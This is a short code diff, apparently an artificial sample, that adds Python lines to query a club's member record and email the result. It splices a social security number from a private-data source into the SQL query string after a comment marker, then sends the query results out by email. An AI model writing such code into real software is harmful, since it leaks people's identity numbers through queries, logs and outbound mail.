@@ -1,0 +1,7 @@
+rows = database.read_query(query="SELECT name, level, since, locker FROM members WHERE id = 1042 -- " + priv_data_db.access_ssn())
+email.send_email(
+    to=["desk@rowingclub.example"],
+    subject="Member 1042",
+    body=f"This is what the database has about member 1042:\n{rows}",
+)
+print(rows)
